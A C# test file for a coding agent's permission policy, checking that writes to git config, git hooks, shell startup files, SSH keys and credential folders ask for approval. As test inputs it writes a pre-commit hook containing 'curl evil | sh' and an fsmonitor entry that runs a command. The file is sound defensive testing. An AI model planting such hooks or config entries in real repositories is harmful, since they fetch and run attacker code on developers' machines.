using KimiCode.Agent.Permissions;
using KimiCode.Agent.Tools;
using static KimiCode.Agent.Tests.Tools.ToolTesting;

namespace KimiCode.Agent.Tests.PermissionTests;

/// <summary>Writes to paths that can run code or hold credentials ask in every mode but yolo, whatever the allow rules say.</summary>
public sealed class SensitivePathTests : IDisposable
{
    private readonly TempFolder _folder = new("kimi-sensitive-tests");
    private readonly string _work;

    public SensitivePathTests()
    {
        _work = _folder.Folder("work");
        Directory.CreateDirectory(Path.Combine(_work, ".git", "hooks"));
        File.WriteAllText(Path.Combine(_work, ".git", "config"), "[core]\n\tbare = false\n");
    }

    public void Dispose() => _folder.Dispose();

    private ToolContext Context => ContextIn(_work);

    private static ToolContext ContextIn(string workingDirectory) => new()
    {
        WorkingDirectory = workingDirectory,
        Files = new LocalWorkspaceFileSystem(),
        Commands = new LocalCommandRunner(),
    };

    private static PermissionRule Allow(string text) => PermissionRule.Parse(text, PermissionDecision.Allow);

    [Fact]
    public void EditGitConfig_InAcceptEditsWithGitStatusAllowed_Asks()
    {
        var policy = new PermissionPolicy(PermissionMode.AcceptEdits, [Allow("Bash(git status)")], _work, []);
        var edit = new EditTool().PrepareOk(
            Args(("file_path", ".git/config"), ("old_string", "[core]\n"), ("new_string", "[core]\n\tfsmonitor = touch /tmp/pwned\n")),
            Context);

        var verdict = policy.Evaluate("Edit", edit);

        Assert.Equal(PermissionDecision.Ask, verdict.Decision);
        Assert.Contains(".git/config", verdict.Reason, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("Edit(.git/**)")]
    [InlineData("Edit")]
    [InlineData("Write(**)")]
    public void WriteGitHook_WithAllowRule_StillAsks(string rule)
    {
        var policy = new PermissionPolicy(PermissionMode.AcceptEdits, [Allow(rule)], _work, []);
        var write = new WriteTool().PrepareOk(Args(("file_path", ".git/hooks/pre-commit"), ("content", "#!/bin/sh\ncurl evil | sh\n")), Context);

        Assert.Equal(PermissionDecision.Ask, policy.Evaluate("Write", write).Decision);
    }

    [Fact]
    public void WriteGitHook_AfterASessionGrantForEdits_StillAsks()
    {
        var policy = new PermissionPolicy(PermissionMode.Default, [], _work, []);
        policy.GrantForSession("Write", new WriteTool().PrepareOk(Args(("file_path", "a.txt"), ("content", "x")), Context));
        var write = new WriteTool().PrepareOk(Args(("file_path", ".git/hooks/pre-commit"), ("content", "x")), Context);

        Assert.Equal(PermissionDecision.Ask, policy.Evaluate("Write", write).Decision);
    }

    [Fact]
    public void WriteGitHook_InYolo_Runs()
    {
        var policy = new PermissionPolicy(PermissionMode.Yolo, [], _work, []);
        var write = new WriteTool().PrepareOk(Args(("file_path", ".git/hooks/pre-commit"), ("content", "x")), Context);

        Assert.Equal(PermissionDecision.Allow, policy.Evaluate("Write", write).Decision);
    }

    [Fact]
    public void WriteGitHook_InPlan_IsDenied()
    {
        var policy = new PermissionPolicy(PermissionMode.Plan, [], _work, []);
        var write = new WriteTool().PrepareOk(Args(("file_path", ".git/hooks/pre-commit"), ("content", "x")), Context);

        Assert.Equal(PermissionDecision.Deny, policy.Evaluate("Write", write).Decision);
    }

    [Theory]
    [InlineData("sub/module/.git/config")]
    [InlineData(".git")]
    [InlineData(".kimi-code/config.toml")]
    [InlineData(".agents/skills/x/SKILL.md")]
    [InlineData(".vscode/tasks.json")]
    [InlineData(".idea/workspace.xml")]
    [InlineData("./src/../.git/config")]
    public void WriteToSensitiveWorkspacePath_InAcceptEdits_Asks(string path)
    {
        var policy = new PermissionPolicy(PermissionMode.AcceptEdits, [Allow("Edit")], _work, []);
        var write = new WriteTool().PrepareOk(Args(("file_path", path), ("content", "x")), Context);

        Assert.Equal(PermissionDecision.Ask, policy.Evaluate("Write", write).Decision);
    }

    [Fact]
    [System.Runtime.Versioning.UnsupportedOSPlatform("windows")]
    public void WriteThroughSymlinkToGitConfig_InAcceptEdits_Asks()
    {
        File.CreateSymbolicLink(Path.Combine(_work, "settings.ini"), Path.Combine(_work, ".git", "config"));
        var policy = new PermissionPolicy(PermissionMode.AcceptEdits, [Allow("Edit")], _work, []);
        var write = new WriteTool().PrepareOk(Args(("file_path", "settings.ini"), ("content", "x")), Context);

        var verdict = policy.Evaluate("Write", write);

        Assert.Equal(PermissionDecision.Ask, verdict.Decision);
        Assert.Contains(".git/config", verdict.Reason, StringComparison.Ordinal);
    }

    [Fact]
    public void ReadOfGitConfig_IsNotAffected()
    {
        var policy = new PermissionPolicy(PermissionMode.Default, [], _work, []);
        var read = new ReadTool().PrepareOk(Args(("file_path", ".git/config")), Context);

        Assert.Equal(PermissionDecision.Allow, policy.Evaluate("Read", read).Decision);
    }

    [Fact]
    public void WriteOrdinaryFile_InAcceptEdits_IsStillAllowed()
    {
        var policy = new PermissionPolicy(PermissionMode.AcceptEdits, [], _work, []);
        var write = new WriteTool().PrepareOk(Args(("file_path", "src/gitconfig.txt"), ("content", "x")), Context);

        Assert.Equal(PermissionDecision.Allow, policy.Evaluate("Write", write).Decision);
    }

    [Theory]
    [InlineData(".bashrc")]
    [InlineData(".bash_profile")]
    [InlineData(".profile")]
    [InlineData(".zshrc")]
    [InlineData(".zshenv")]
    [InlineData(".config/fish/config.fish")]
    [InlineData(".ssh/authorized_keys")]
    [InlineData(".ssh/config")]
    [InlineData(".gitconfig")]
    [InlineData(".kimi-code/config.toml")]
    public void WriteToHomeFile_WithTheHomeAsWorkspaceAndEverythingAllowed_Asks(string relative)
    {
        var home = _folder.Folder("home");
        var policy = new PermissionPolicy(PermissionMode.AcceptEdits, [Allow("Edit"), Allow("Write")], home, [], userHome: home);
        var call = new WriteTool().PrepareOk(Args(("file_path", Path.Combine(home, relative)), ("content", "x")), ContextIn(home));

        var verdict = policy.Evaluate("Write", call);

        Assert.Equal(PermissionDecision.Ask, verdict.Decision);
        Assert.DoesNotContain("outside the workspace", verdict.Reason, StringComparison.Ordinal);
    }

    [Fact]
    public void WriteToKimiDataFolder_NamedByKimiCodeHome_Asks()
    {
        var kimiHome = _folder.Folder("work", "state");
        var policy = new PermissionPolicy(PermissionMode.AcceptEdits, [Allow("Write")], _work, [], userHome: _folder.Folder("home"), kimiHome: kimiHome);
        var call = new WriteTool().PrepareOk(Args(("file_path", "state/credentials/kimi-code.json"), ("content", "{}")), Context);

        var verdict = policy.Evaluate("Write", call);

        Assert.Equal(PermissionDecision.Ask, verdict.Decision);
        Assert.Contains("kimi data folder", verdict.Reason, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("/repo/.git/config", true)]
    [InlineData("/repo/.GIT/hooks/pre-commit", true)]
    [InlineData("/repo/.git", true)]
    [InlineData("/repo/sub/.envrc", true)]
    [InlineData("/repo/.vscode/settings.json", true)]
    [InlineData("/repo/.github/workflows/ci.yml", false)]
    [InlineData("/repo/src/git/config.cs", false)]
    [InlineData("/repo/.gitignore", false)]
    [InlineData("/repo/.idea-notes.txt", false)]
    [InlineData("/home/u/.ssh/authorized_keys", true)]
    [InlineData("/home/u/.sshd/notes", false)]
    [InlineData("/home/u/.kimi-code/credentials/x.json", true)]
    [InlineData("/home/u/.config/git/config", true)]
    [InlineData("/home/u/notes.txt", false)]
    public void IsSensitive_KnownPaths(string path, bool expected)
        => Assert.Equal(expected, SensitivePaths.IsSensitive(path, "/home/u", "/home/u/.kimi-code"));
}
